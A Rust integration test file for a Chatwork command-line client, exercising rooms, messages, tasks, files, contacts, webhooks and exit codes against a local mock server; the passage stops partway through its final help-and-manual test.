//! Every `chatwork` command run as a process against the local Chatwork: exact output,
//! exit codes, standard input, confirmations and limits.

mod common;
use common::home;

use std::process::Stdio;
use std::time::Duration;

use chatwork_mock::{Limits, MockServer, NewWebhook, Seed};
use serde_json::{Value, json};
use tokio::io::AsyncWriteExt;

struct Run {
    code: i32,
    stdout: String,
    stderr: String,
}

impl Run {
    fn json(&self) -> Value {
        serde_json::from_str(&self.stdout)
            .unwrap_or_else(|e| panic!("not JSON ({e}): {}\nstderr: {}", self.stdout, self.stderr))
    }

    #[track_caller]
    fn ok(self) -> Self {
        assert_eq!(
            self.code, 0,
            "stdout: {}\nstderr: {}",
            self.stdout, self.stderr
        );
        self
    }
}

/// A clean environment: no token file, no saved state, UTC.
fn command(home: &std::path::Path) -> tokio::process::Command {
    let mut c = tokio::process::Command::new(env!("CARGO_BIN_EXE_chatwork"));
    c.env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", home)
        .env("TZ", "UTC")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .kill_on_drop(true);
    c
}

async fn finish(mut child: tokio::process::Child, stdin: Option<&str>) -> Run {
    let mut pipe = child.stdin.take().unwrap();
    if let Some(text) = stdin {
        pipe.write_all(text.as_bytes()).await.unwrap();
    }
    drop(pipe);
    let out = tokio::time::timeout(Duration::from_secs(60), child.wait_with_output())
        .await
        .expect("the command finished")
        .unwrap();
    Run {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

/// Runs `chatwork ARGS` as `who` against `mock`, with `stdin` if given.
async fn cw(mock: &MockServer, who: &str, args: &[&str], stdin: Option<&str>) -> Run {
    let mut c = command(&home());
    c.env("CHATWORK_API_TOKEN", mock.token(who))
        .env("CHATWORK_BASE_URL", mock.base_url())
        .args(args);
    finish(c.spawn().unwrap(), stdin).await
}

/// `YYYY-MM-DD HH:MM` → `<time>`, so that tables can be compared exactly.
fn mask_times(text: &str) -> String {
    let chars: Vec<char> = text.chars().collect();
    let shape = "dddd-dd-dd dd:dd";
    let mut out = String::new();
    let mut i = 0;
    while i < chars.len() {
        let fits = i + shape.len() <= chars.len()
            && shape.chars().zip(&chars[i..]).all(|(s, c)| {
                if s == 'd' {
                    c.is_ascii_digit()
                } else {
                    s == *c
                }
            });
        if fits {
            out.push_str("<time>");
            i += shape.len();
        } else {
            out.push(chars[i]);
            i += 1;
        }
    }
    out
}

/// Project's room ID in the demo seed.
async fn project(mock: &MockServer) -> i64 {
    let rooms = cw(mock, "alice", &["--json", "rooms", "list"], None)
        .await
        .ok()
        .json();
    rooms
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["name"] == "Project")
        .unwrap()["room_id"]
        .as_i64()
        .unwrap()
}

#[tokio::test]
async fn me_status_and_rooms_print_tables_and_json() {
    let mock = MockServer::start().await;
    let me = cw(&mock, "alice", &["--json", "me"], None)
        .await
        .ok()
        .json();
    assert_eq!(me["account_id"], 1001);
    assert_eq!(me["name"], "Alice");
    assert_eq!(me["login_mail"], "alice@example.invalid");

    let table = cw(&mock, "alice", &["me"], None).await.ok().stdout;
    assert!(
        table.starts_with("account:      1001\nname:         Alice\n"),
        "{table}"
    );

    let status = cw(&mock, "alice", &["status"], None).await.ok().stdout;
    assert_eq!(
        status,
        "unread:   0 in 0 rooms\nmentions: 0 in 0 rooms\nmy tasks: 0 in 0 rooms\n"
    );

    let rooms = cw(&mock, "alice", &["rooms", "list"], None)
        .await
        .ok()
        .stdout;
    assert_eq!(
        mask_times(&rooms),
        "\
ID   NAME     TYPE    ROLE   UNREAD  MENTIONS  MY TASKS  UPDATED
101  Alice    my      admin  0       0         0         <time>
104  Bob      direct  admin  0       0         0         <time>
105  Carol    direct  admin  0       0         0         <time>
106  Project  group   admin  0       0         0         <time>
"
    );
    let limited = cw(
        &mock,
        "alice",
        &["--json", "rooms", "list", "--limit", "2"],
        None,
    )
    .await
    .ok()
    .json();
    assert_eq!(limited.as_array().unwrap().len(), 2);

    let room = cw(&mock, "bob", &["--json", "rooms", "get", "Project"], None)
        .await
        .ok()
        .json();
    assert_eq!(
        (room["room_id"].as_i64(), room["role"].as_str()),
        (Some(106), Some("member"))
    );
}

#[tokio::test]
async fn rooms_are_created_changed_left_and_deleted_with_confirmation() {
    let mock = MockServer::start().await;
    let made = cw(
        &mock,
        "alice",
        &[
            "--json",
            "rooms",
            "create",
            "Release",
            "--admin",
            "Alice",
            "--member",
            "bob",
            "--readonly",
            "1003",
            "--description",
            "Ship it",
            "--icon",
            "star",
        ],
        None,
    )
    .await
    .ok()
    .json();
    let id = made["room_id"].as_i64().unwrap().to_string();
    let members = cw(&mock, "alice", &["members", "list", &id], None)
        .await
        .ok()
        .stdout;
    assert_eq!(
        members,
        "ID    NAME   ROLE      ORGANIZATION\n1001  Alice  admin\n1002  Bob    member\n1003  Carol  readonly\n"
    );
    let changed = cw(
        &mock,
        "alice",
        &["rooms", "update", "Release", "--name", "Release 2"],
        None,
    )
    .await
    .ok()
    .stdout;
    assert_eq!(changed, format!("updated room {id}\n"));
    let nothing = cw(&mock, "alice", &["rooms", "update", &id], None).await;
    assert_eq!(nothing.code, 2);
    assert_eq!(
        nothing.stderr,
        "chatwork rooms update: nothing to change: give --name, --description or --icon\n"
    );

    // Members: Bob cannot change them (403: exit 4); Alice is asked first.
    let refused = cw(
        &mock,
        "bob",
        &["-y", "members", "set", &id, "--admin", "1002"],
        None,
    )
    .await;
    assert_eq!(refused.code, 4, "{}", refused.stderr);
    assert!(
        refused
            .stderr
            .starts_with("chatwork members set: Chatwork answered 403"),
        "{}",
        refused.stderr
    );
    let no = cw(
        &mock,
        "alice",
        &["members", "set", &id, "--admin", "Alice", "--member", "Bob"],
        Some("n\n"),
    )
    .await;
    assert_eq!(no.code, 2);
    assert_eq!(
        no.stderr,
        format!(
            "chatwork members set: not confirmed: standard input is not a terminal, so nothing is asked or read; nothing was changed (hint: add --yes to go ahead without the question (Replace the members of {id}: admins Alice (1001); members Bob (1002); read-only none? Anyone else is removed.))\n"
        )
    );
    // `echo y |` confirms nothing: only a terminal is asked.
    let piped = cw(
        &mock,
        "alice",
        &["members", "set", &id, "--admin", "Alice", "--member", "Bob"],
        Some("y\n"),
    )
    .await;
    assert_eq!(piped.code, 2, "{}", piped.stderr);
    let yes = cw(
        &mock,
        "alice",
        &[
            "--json", "--yes", "members", "set", &id, "--admin", "Alice", "--member", "Bob",
        ],
        None,
    )
    .await
    .ok()
    .json();
    assert_eq!(
        yes,
        json!({"admin": [1001], "member": [1002], "readonly": []})
    );

    // Bob leaves and Alice deletes, with --yes (no terminal to ask).
    let left = cw(&mock, "bob", &["--yes", "rooms", "leave", &id], None)
        .await
        .ok()
        .stdout;
    assert_eq!(left, format!("left room {id}\n"));
    let gone = cw(&mock, "alice", &["--yes", "rooms", "delete", &id], None)
        .await
        .ok()
        .stdout;
    assert_eq!(gone, format!("deleted room {id}\n"));
    let missing = cw(&mock, "alice", &["rooms", "get", &id], None).await;
    assert_eq!(missing.code, 5);
}

#[tokio::test]
async fn messages_from_arguments_files_and_stdin_are_escaped() {
    let mock = MockServer::start().await;
    let room = project(&mock).await.to_string();
    let posted = cw(
        &mock,
        "alice",
        &[
            "--json",
            "messages",
            "post",
            "Project",
            "Build [toall] passed",
            "--to",
            "Bob",
        ],
        None,
    )
    .await
    .ok()
    .json();
    let id = posted["message_id"].as_str().unwrap().to_owned();
    let got = cw(
        &mock,
        "bob",
        &["--json", "messages", "get", &room, &id],
        None,
    )
    .await
    .ok()
    .json();
    assert_eq!(got["body"], "[To:1002]Bob\nBuild [\u{200b}toall] passed");

    // Standard input, with the trailing newline dropped, in a code block with a title.
    cw(
        &mock,
        "alice",
        &["messages", "post", &room, "--info-title", "CI", "--code"],
        Some("cargo test\n[/code] ok\n"),
    )
    .await
    .ok();
    // A file, sent as notation.
    let dir = home();
    let file = dir.join("body.txt");
    std::fs::write(&file, "[info]raw notation[/info]\n").unwrap();
    cw(
        &mock,
        "alice",
        &[
            "messages",
            "post",
            &room,
            "--raw",
            "--file",
            file.to_str().unwrap(),
        ],
        None,
    )
    .await
    .ok();
    let all = cw(
        &mock,
        "bob",
        &["--json", "messages", "list", "Project"],
        None,
    )
    .await
    .ok()
    .json();
    let bodies: Vec<&str> = all
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["body"].as_str().unwrap())
        .collect();
    assert_eq!(
        bodies,
        [
            "[To:1002]Bob\nBuild [\u{200b}toall] passed",
            "[info][title]CI[/title][code]cargo test\n[\u{200b}/code] ok[/code][/info]",
            "[info]raw notation[/info]",
        ]
    );
    // Bob's cursor: nothing new (204) is an empty list; --all and --limit.
    let again = cw(
        &mock,
        "bob",
        &["--json", "messages", "list", "Project"],
        None,
    )
    .await
    .ok()
    .json();
    assert_eq!(again, json!([]));
    let table = cw(&mock, "bob", &["messages", "list", "Project"], None)
        .await
        .ok()
        .stdout;
    assert_eq!(table, "ID  FROM  SENT  BODY\n(none)\n");
    let last = cw(
        &mock,
        "bob",
        &[
            "--json", "messages", "list", "Project", "--all", "--limit", "1",
        ],
        None,
    )
    .await
    .ok()
    .json();
    assert_eq!(last.as_array().unwrap().len(), 1);
    let listed = cw(
        &mock,
        "bob",
        &["messages", "list", "Project", "--all", "--limit", "1"],
        None,
    )
    .await
    .ok()
    .stdout;
    assert_eq!(
        mask_times(&listed),
        format!(
            "ID                   FROM   SENT              BODY\n{id}  Alice  <time>  [To:1002]Bob Build [\u{200b}toall] passed\n"
        )
    );

    // Edit, read, unread, delete (asked first).
    let edited = cw(
        &mock,
        "alice",
        &["messages", "edit", &room, &id, "fixed"],
        None,
    )
    .await
    .ok()
    .stdout;
    assert_eq!(edited, format!("edited message {id}\n"));
    let read = cw(&mock, "bob", &["--json", "messages", "read", &room], None)
        .await
        .ok()
        .json();
    assert_eq!(read, json!({"unread_num": 0, "mention_num": 0}));
    let unread = cw(
        &mock,
        "bob",
        &["--json", "messages", "unread", &room, "--message", &id],
        None,
    )
    .await
    .ok()
    .json();
    assert_eq!(unread["unread_num"], 3);
    let hijack = cw(
        &mock,
        "bob",
        &["-y", "messages", "delete", &room, &id],
        None,
    )
    .await;
    assert_eq!(hijack.code, 4);
    let declined = cw(&mock, "alice", &["messages", "delete", &room, &id], None).await;
    assert_eq!(declined.code, 2, "no terminal: not confirmed");
    cw(
        &mock,
        "alice",
        &["--yes", "messages", "delete", &room, &id],
        None,
    )
    .await
    .ok();
    let gone = cw(&mock, "alice", &["messages", "get", &room, &id], None).await;
    assert_eq!(gone.code, 5);
    // No text anywhere: a usage error (stdin is empty).
    let empty = cw(&mock, "alice", &["messages", "post", &room], Some("")).await;
    assert_eq!(
        (empty.code, empty.stderr.as_str()),
        (2, "chatwork messages post: the text is empty\n")
    );
}

#[tokio::test]
async fn watch_prints_new_messages_as_json_lines() {
    let mock = MockServer::start().await;
    let room = project(&mock).await.to_string();
    let mut c = command(&home());
    c.env("CHATWORK_API_TOKEN", mock.token("bob"))
        .env("CHATWORK_BASE_URL", mock.base_url())
        .args([
            "--json", "messages", "watch", &room, "--every", "1", "--count", "2",
        ]);
    let child = c.spawn().unwrap();
    for text in ["first", "second"] {
        cw(&mock, "alice", &["messages", "post", &room, text], None)
            .await
            .ok();
    }
    let run = finish(child, None).await.ok();
    let lines: Vec<Value> = run
        .stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let bodies: Vec<&str> = lines.iter().map(|m| m["body"].as_str().unwrap()).collect();
    assert_eq!(bodies, ["first", "second"]);
}

#[tokio::test]
async fn tasks_with_due_dates_mine_done_and_reopen() {
    let mock = MockServer::start().await;
    let room = project(&mock).await.to_string();
    let before = jiff::Timestamp::now().as_second();
    let made = cw(
        &mock,
        "alice",
        &[
            "--json",
            "tasks",
            "create",
            "Project",
            "Review the notes",
            "--assign",
            "Bob,Carol",
            "--due",
            "+2d",
        ],
        None,
    )
    .await
    .ok()
    .json();
    let ids = made["task_ids"].as_array().unwrap().clone();
    assert_eq!(ids.len(), 2);
    let task = ids[0].to_string();
    let got = cw(
        &mock,
        "alice",
        &["--json", "tasks", "get", &room, &task],
        None,
    )
    .await
    .ok()
    .json();
    let due = got["limit_time"].as_i64().unwrap();
    assert!(
        (before + 172_800..=before + 172_800 + 60).contains(&due),
        "{due}"
    );
    assert_eq!(got["limit_type"], "time");
    // A date, typed "date": the middle of the hours that are 2026-12-01 both in Japan and
    // here (TZ=UTC): 00:00 to 15:00 UTC, so 07:30 UTC.
    let dated = cw(
        &mock,
        "alice",
        &[
            "--json",
            "tasks",
            "create",
            &room,
            "Plan",
            "--assign",
            "1002",
            "--due",
            "2026-12-01",
        ],
        None,
    )
    .await
    .ok()
    .json();
    let dated_id = dated["task_ids"][0].to_string();
    let got = cw(
        &mock,
        "alice",
        &["--json", "tasks", "get", &room, &dated_id],
        None,
    )
    .await
    .ok()
    .json();
    assert_eq!(
        (got["limit_time"].as_i64(), got["limit_type"].as_str()),
        (Some(1_796_110_200), Some("date"))
    );
    // From Los Angeles and from Tokyo (and the ends of the world's zones), the same date
    // reaches Chatwork and comes back.
    for tz in ["PST8PDT,M3.2.0,M11.1.0", "JST-9", "<-12>12", "<+14>-14"] {
        let mut c = command(&home());
        c.env("CHATWORK_API_TOKEN", mock.token("alice"))
            .env("CHATWORK_BASE_URL", mock.base_url())
            .env("TZ", tz)
            .args([
                "--json",
                "tasks",
                "create",
                &room,
                "Xmas",
                "--assign",
                "1002",
                "--due",
                "2026-12-25",
            ]);
        let made = finish(c.spawn().unwrap(), None).await.ok().json();
        let id = made["task_ids"][0].to_string();
        let got = cw(
            &mock,
            "alice",
            &["--json", "tasks", "get", &room, &id],
            None,
        )
        .await
        .ok()
        .json();
        let at = got["limit_time"].as_i64().unwrap();
        // In Japan (UTC+9) it is 2026-12-25 from 2026-12-24T15:00Z to 2026-12-25T15:00Z.
        assert!((1_798_124_400..1_798_210_800).contains(&at), "{tz}: {at}");
        let mut c = command(&home());
        c.env("CHATWORK_API_TOKEN", mock.token("alice"))
            .env("CHATWORK_BASE_URL", mock.base_url())
            .env("TZ", tz)
            .args(["tasks", "get", &room, &id]);
        let shown = finish(c.spawn().unwrap(), None).await.ok().stdout;
        assert!(shown.contains("2026-12-25"), "{tz}: {shown}");
        cw(&mock, "bob", &["tasks", "done", &room, &id], None)
            .await
            .ok();
    }
    let bad = cw(
        &mock,
        "alice",
        &[
            "tasks", "create", &room, "x", "--assign", "Bob", "--due", "tomorrow",
        ],
        None,
    )
    .await;
    assert_eq!(bad.code, 2);
    assert!(
        bad.stderr
            .starts_with("chatwork tasks create: cannot read the due date \"tomorrow\"")
    );

    let mine = cw(&mock, "bob", &["tasks", "mine"], None).await.ok().stdout;
    assert_eq!(
        mask_times(&mine),
        format!(
            "ID   ROOM     BY     STATUS  DUE               TASK\n{task}  Project  Alice  open    <time>  Review the notes\n{dated_id}  Project  Alice  open    2026-12-01        Plan\n"
        )
    );
    let limited = cw(
        &mock,
        "bob",
        &["--json", "tasks", "mine", "--limit", "1"],
        None,
    )
    .await
    .ok()
    .json();
    assert_eq!(limited.as_array().unwrap().len(), 1);
    let done = cw(&mock, "bob", &["tasks", "done", &room, &task], None)
        .await
        .ok()
        .stdout;
    assert_eq!(done, format!("task {task} is done\n"));
    let open = cw(
        &mock,
        "alice",
        &[
            "--json",
            "tasks",
            "list",
            "Project",
            "--status",
            "open",
            "--account",
            "Bob",
        ],
        None,
    )
    .await
    .ok()
    .json();
    assert_eq!(open.as_array().unwrap().len(), 1);
    let reopened = cw(&mock, "bob", &["tasks", "reopen", &room, &task], None)
        .await
        .ok()
        .stdout;
    assert_eq!(reopened, format!("task {task} is open\n"));
    let table = cw(
        &mock,
        "alice",
        &[
            "tasks", "list", "Project", "--status", "open", "--limit", "1",
        ],
        None,
    )
    .await
    .ok()
    .stdout;
    assert_eq!(table.lines().count(), 2, "{table}");
}

#[tokio::test]
async fn files_upload_list_get_and_download() {
    let mock = MockServer::start().await;
    let room = project(&mock).await.to_string();
    let dir = home();
    let path = dir.join("report.bin");
    let data: Vec<u8> = (0..3000u32).map(|i| (i % 251) as u8).collect();
    std::fs::write(&path, &data).unwrap();
    let up = cw(
        &mock,
        "alice",
        &[
            "--json",
            "files",
            "upload",
            "Project",
            path.to_str().unwrap(),
            "--message",
            "[toall] nightly",
        ],
        None,
    )
    .await
    .ok()
    .json();
    let file = up["file_id"].as_i64().unwrap().to_string();
    // The message is escaped as `messages post` escapes it: `[toall]` stays text.
    let posted = cw(
        &mock,
        "alice",
        &["--json", "messages", "list", &room, "--all"],
        None,
    )
    .await
    .ok()
    .json();
    let body = posted[0]["body"].as_str().unwrap();
    assert!(
        body.starts_with("[\u{200b}toall] nightly\n[download:"),
        "{body:?}"
    );
    let list = cw(
        &mock,
        "bob",
        &["files", "list", "Project", "--account", "Alice"],
        None,
    )
    .await
    .ok()
    .stdout;
    assert_eq!(
        mask_times(&list),
        format!(
            "ID   NAME        SIZE     FROM   UPLOADED\n{file}  report.bin  2.9 KiB  Alice  <time>\n"
        )
    );
    let got = cw(
        &mock,
        "bob",
        &["--json", "files", "get", &room, &file, "--url"],
        None,
    )
    .await
    .ok()
    .json();
    assert!(got["download_url"].as_str().unwrap().contains("/download/"));
    // To a file (in the working directory, under its own name) and to standard output.
    let mut c = command(&dir);
    c.env("CHATWORK_API_TOKEN", mock.token("bob"))
        .env("CHATWORK_BASE_URL", mock.base_url())
        .current_dir(&dir)
        .args(["files", "download", &room, &file]);
    std::fs::remove_file(&path).unwrap();
    let saved = finish(c.spawn().unwrap(), None).await.ok();
    assert_eq!(saved.stdout, "saved report.bin (2.9 KiB)\n");
    assert_eq!(std::fs::read(&path).unwrap(), data);
    let mut c = command(&dir);
    c.env("CHATWORK_API_TOKEN", mock.token("bob"))
        .env("CHATWORK_BASE_URL", mock.base_url())
        .args(["files", "download", &room, &file, "-o", "-"]);
    let out = c.output().await.unwrap();
    assert_eq!(out.stdout, data);
    // Too large: refused before sending.
    let big = dir.join("big.bin");
    std::fs::write(&big, vec![0u8; 5 * 1024 * 1024 + 1]).unwrap();
    let refused = cw(
        &mock,
        "alice",
        &["files", "upload", &room, big.to_str().unwrap()],
        None,
    )
    .await;
    assert_eq!(refused.code, 2);
    assert_eq!(mock.count("POST", &format!("/v2/rooms/{room}/files")), 1);
    let _ = std::fs::remove_dir_all(&dir);
}

#[tokio::test]
async fn contacts_requests_and_links() {
    let mock = MockServer::start().await;
    let contacts = cw(&mock, "alice", &["contacts", "list"], None)
        .await
        .ok()
        .stdout;
    assert_eq!(
        contacts,
        "ID    NAME   DIRECT CHAT  ORGANIZATION\n1002  Bob    104\n1003  Carol  105\n"
    );
    let limited = cw(
        &mock,
        "alice",
        &["--json", "contacts", "list", "--limit", "1"],
        None,
    )
    .await
    .ok()
    .json();
    assert_eq!(limited.as_array().unwrap().len(), 1);
    let requests = cw(&mock, "alice", &["requests", "list"], None)
        .await
        .ok()
        .stdout;
    assert_eq!(
        requests,
        "ID    FROM         ORGANIZATION  MESSAGE\n9001  Dave (1004)                Hello, I'm Dave from the partner company.\n"
    );
    let approved = cw(&mock, "alice", &["requests", "approve", "9001"], None)
        .await
        .ok()
        .stdout;
    assert!(
        approved.starts_with("Dave (1004) is now a contact (direct chat "),
        "{approved}"
    );
    let again = cw(&mock, "alice", &["-y", "requests", "decline", "9001"], None).await;
    assert_eq!(again.code, 5);

    let room = project(&mock).await.to_string();
    let none = cw(&mock, "alice", &["links", "get", &room], None)
        .await
        .ok()
        .stdout;
    assert_eq!(none, "no invitation link\n");
    let made = cw(
        &mock,
        "alice",
        &[
            "--json",
            "links",
            "create",
            "Project",
            "--code",
            "proj-42",
            "--description",
            "Join us",
            "--need-acceptance",
            "false",
        ],
        None,
    )
    .await
    .ok()
    .json();
    assert_eq!(made["public"], true);
    assert!(
        made["url"].as_str().unwrap().ends_with("/g/proj-42"),
        "{made}"
    );
    let changed = cw(
        &mock,
        "alice",
        &["links", "update", "Project", "--need-acceptance", "true"],
        None,
    )
    .await
    .ok()
    .stdout;
    assert!(changed.contains("needs approval: yes"), "{changed}");
    let deleted = cw(&mock, "alice", &["-y", "links", "delete", "Project"], None)
        .await
        .ok()
        .stdout;
    assert_eq!(deleted, "invitation link deleted\n");
}

#[tokio::test]
async fn the_custom_call_and_its_exit_codes() {
    let mock = MockServer::start().await;
    let room = project(&mock).await.to_string();
    let rooms = cw(&mock, "alice", &["api", "GET", "/rooms"], None)
        .await
        .ok();
    assert_eq!(rooms.stderr, "HTTP 200\n");
    let parsed: Value = serde_json::from_str(&rooms.stdout).unwrap();
    assert_eq!(parsed.as_array().unwrap().len(), 4);
    let posted = cw(
        &mock,
        "alice",
        &[
            "api",
            "POST",
            &format!("/rooms/{room}/messages"),
            "--form",
            "body=via api",
        ],
        None,
    )
    .await
    .ok();
    let answer: Value = serde_json::from_str(&posted.stdout).unwrap();
    assert!(answer["message_id"].is_string());
    let logged = mock
        .requests()
        .into_iter()
        .rev()
        .find(|r| r.method == "POST")
        .unwrap();
    assert_eq!(logged.form, [("body".to_owned(), "via api".to_owned())]);
    let forced = cw(
        &mock,
        "alice",
        &[
            "api",
            "GET",
            &format!("/rooms/{room}/messages"),
            "--query",
            "force=1",
        ],
        None,
    )
    .await
    .ok();
    assert!(forced.stdout.contains("via api"));
    let bad = cw(
        &mock,
        "alice",
        &["api", "GET", "/rooms", "--query", "noequals"],
        None,
    )
    .await;
    assert_eq!(bad.code, 2);
    let missing = cw(&mock, "alice", &["api", "GET", "/rooms/999"], None).await;
    assert_eq!(missing.code, 5);
}

#[tokio::test]
async fn every_failure_class_has_its_exit_code() {
    let mock = MockServer::start().await;
    let room = project(&mock).await.to_string();
    // 2: usage (clap) and an unknown or ambiguous name.
    let usage = cw(&mock, "alice", &["rooms", "frobnicate"], None).await;
    assert_eq!(usage.code, 2);
    let unknown = cw(&mock, "alice", &["rooms", "get", "Nowhere"], None).await;
    assert_eq!(
        (unknown.code, unknown.stderr.as_str()),
        (
            2,
            "chatwork rooms get: no room named \"Nowhere\" (hint: `chatwork rooms list` shows them; an ID works too)\n"
        )
    );
    for _ in 0..2 {
        cw(
            &mock,
            "alice",
            &["rooms", "create", "Dup", "--admin", "Alice"],
            None,
        )
        .await
        .ok();
    }
    let ambiguous = cw(&mock, "alice", &["rooms", "get", "dup"], None).await;
    assert_eq!(ambiguous.code, 2);
    assert!(
        ambiguous
            .stderr
            .starts_with("chatwork rooms get: \"dup\" matches 2 rooms: "),
        "{}",
        ambiguous.stderr
    );
    // 2: refused by Chatwork (400).
    let refused = cw(
        &mock,
        "alice",
        &["rooms", "update", &room, "--icon", "unicorn"],
        None,
    )
    .await;
    assert_eq!(refused.code, 2, "{}", refused.stderr);
    // 3: a wrong token.
    let mut c = command(&home());
    c.env("CHATWORK_API_TOKEN", "wrong")
        .env("CHATWORK_BASE_URL", mock.base_url())
        .arg("me");
    let auth = finish(c.spawn().unwrap(), None).await;
    assert_eq!(auth.code, 3);
    assert_eq!(
        auth.stderr,
        "chatwork me: Chatwork answered 401: Invalid API token (hint: check CHATWORK_API_TOKEN or the token file)\n"
    );
    // 3: no token with an explicit base URL.
    let mut c = command(&home());
    c.env("CHATWORK_BASE_URL", mock.base_url()).arg("me");
    assert_eq!(finish(c.spawn().unwrap(), None).await.code, 3);
    // 4: Carol is read-only.
    let readonly = cw(&mock, "carol", &["messages", "post", &room, "hi"], None).await;
    assert_eq!(readonly.code, 4);
    // 5: not found.
    assert_eq!(
        cw(&mock, "alice", &["tasks", "get", &room, "424242"], None)
            .await
            .code,
        5
    );
    // 7: nothing listening.
    let closed = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        format!("http://{}/v2", l.local_addr().unwrap())
    };
    let mut c = command(&home());
    c.env("CHATWORK_API_TOKEN", "x")
        .env("CHATWORK_BASE_URL", &closed)
        .arg("me");
    let network = finish(c.spawn().unwrap(), None).await;
    assert_eq!(network.code, 7, "{}", network.stderr);
    assert!(
        network
            .stderr
            .ends_with("(hint: check the network and --base-url)\n"),
        "{}",
        network.stderr
    );
    // The causes, each once, down to the refused connection.
    assert!(
        network
            .stderr
            .starts_with("chatwork me: get_me: could not connect: error sending request"),
        "{}",
        network.stderr
    );
    assert_eq!(
        network
            .stderr
            .to_ascii_lowercase()
            .matches("connection refused")
            .count(),
        1,
        "{}",
        network.stderr
    );

    // 6: rate limited, with the reset time in the hint.
    let tight = MockServer::start_with(
        Seed::demo(),
        Limits {
            requests: 1,
            window: Duration::from_secs(3600),
            ..Limits::default()
        },
    )
    .await;
    cw(&tight, "alice", &["me"], None).await.ok();
    let limited = cw(&tight, "alice", &["me"], None).await;
    assert_eq!(limited.code, 6, "{}", limited.stderr);
    assert!(
        limited.stderr.starts_with("chatwork me: Chatwork answered 429: Rate limit exceeded (hint: the budget of 1 requests resets at "),
        "{}",
        limited.stderr
    );
}

#[tokio::test]
async fn webhooks_are_signed_and_received() {
    let token = "Y2hhdHdvcmstY2xpLXdlYmhvb2stdG9rZW4=";
    let body = r#"{"webhook_setting_id":"1"}"#;
    let mut c = command(&home());
    c.env("CHATWORK_WEBHOOK_TOKEN", token)
        .args(["webhook", "sign", body]);
    let signed = finish(c.spawn().unwrap(), None).await.ok();
    assert_eq!(
        signed.stdout.trim(),
        chatwork::webhook::sign(token, body.as_bytes()).unwrap()
    );
    let mut c = command(&home());
    c.args(["webhook", "sign", body]);
    assert_eq!(
        finish(c.spawn().unwrap(), None).await.code,
        3,
        "no webhook token"
    );
    // The API token's file is never taken for the webhook token, from the environment or
    // from the global option; the webhook token's own file is.
    let dir = home();
    let api_token = dir.join("api-token");
    std::fs::write(&api_token, "the-api-token").unwrap();
    let webhook_token = dir.join("webhook-token");
    std::fs::write(&webhook_token, format!("{token}\n")).unwrap();
    let expected = chatwork::webhook::sign(token, body.as_bytes()).unwrap();
    for args in [
        vec!["webhook", "sign", body],
        vec![
            "--token-file",
            api_token.to_str().unwrap(),
            "webhook",
            "sign",
            body,
        ],
    ] {
        let mut c = command(&dir);
        c.env("CHATWORK_TOKEN_FILE", &api_token)
            .env("CHATWORK_WEBHOOK_TOKEN", token)
            .args(&args);
        let signed = finish(c.spawn().unwrap(), None).await.ok();
        assert_eq!(signed.stdout.trim(), expected, "{args:?}");
    }
    let mut c = command(&dir);
    c.env("CHATWORK_TOKEN_FILE", &api_token).args([
        "webhook",
        "sign",
        body,
        "--webhook-token-file",
        webhook_token.to_str().unwrap(),
    ]);
    let signed = finish(c.spawn().unwrap(), None).await.ok();
    assert_eq!(signed.stdout.trim(), expected);
    assert!(
        signed.stderr.contains("can be read by other users"),
        "{}",
        signed.stderr
    );

    // `listen` on a free port; the local Chatwork delivers a signed event to it.
    let port = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap().port()
    };
    let mock = MockServer::start().await;
    let mut c = command(&home());
    c.env("CHATWORK_WEBHOOK_TOKEN", token).args([
        "webhook",
        "listen",
        "--port",
        &port.to_string(),
        "--count",
        "1",
    ]);
    let child = c.spawn().unwrap();
    let room = project(&mock).await;
    mock.register_webhook(
        "alice",
        NewWebhook::room(room, format!("http://127.0.0.1:{port}/")).token(token),
    )
    .unwrap();
    // Wait for the listener, then post.
    for _ in 0..100 {
        if std::net::TcpStream::connect(("127.0.0.1", port)).is_ok() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    cw(
        &mock,
        "bob",
        &["messages", "post", &room.to_string(), "deploy done"],
        None,
    )
    .await
    .ok();
    let run = finish(child, None).await.ok();
    let event: Value = serde_json::from_str(run.stdout.trim()).unwrap();
    assert_eq!(event["webhook_event_type"], "message_created");
    assert_eq!(event["room_id"], room);
    assert_eq!(event["webhook_event"]["body"], "deploy done");
    assert_eq!(event["webhook_event"]["account_id"], 1002);
    // The delivery's outcome is recorded once its answer has arrived.
    let deliveries = mock.wait_for_deliveries(1, Duration::from_secs(5)).await;
    assert!(deliveries[0].succeeded());
}

#[tokio::test]
async fn offline_runs_keep_their_state_and_say_so() {
    let dir = home();
    let state = dir.join("local.json");
    let run = |args: &'static [&'static str]| {
        let mut c = command(&dir);
        c.env("CHATWORK_MOCK_STATE", &state).args(args);
        async move { finish(c.spawn().unwrap(), None).await }
    };
    let posted = run(&["messages", "post", "Project", "offline hello"])
        .await
        .ok();
    assert!(posted.stderr.starts_with(
        "chatwork: no CHATWORK_API_TOKEN: using a local Chatwork as alice (state in "
    ));
    let listed = run(&[
        "--json",
        "--mock-user",
        "bob",
        "messages",
        "list",
        "Project",
    ])
    .await
    .ok();
    let bodies: Vec<String> = listed
        .json()
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["body"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(bodies, ["offline hello"]);
    let nobody = run(&["--mock-user", "mallory", "me"]).await;
    assert_eq!(nobody.code, 2);
}

#[tokio::test]
async fn completions_and_help() {
    let dir = home();
    for shell in ["bash", "zsh", "fish"] {
        let mut c = command(&dir);
        c.args(["completions", shell]);
        let out = finish(c.spawn().unwrap(), None).await.ok();
        assert!(out.stdout.contains("chatwork"), "{shell}");
        assert!(out.stdout.contains("messages"), "{shell}");
    }
    let mut c = command(&dir);
    c.arg("--help");
    let help = finish(c.spawn().unwrap(), None).await.ok().stdout;
    assert!(help.contains("Exit codes:"));
    assert!(help.contains("6  rate limited (429)"));
    // The manual page, in roff, with every command.
    let mut c = command(&dir);
    c.arg("man");
    let man = finish(c.spawn().unwrap(), None).await.ok().stdout;
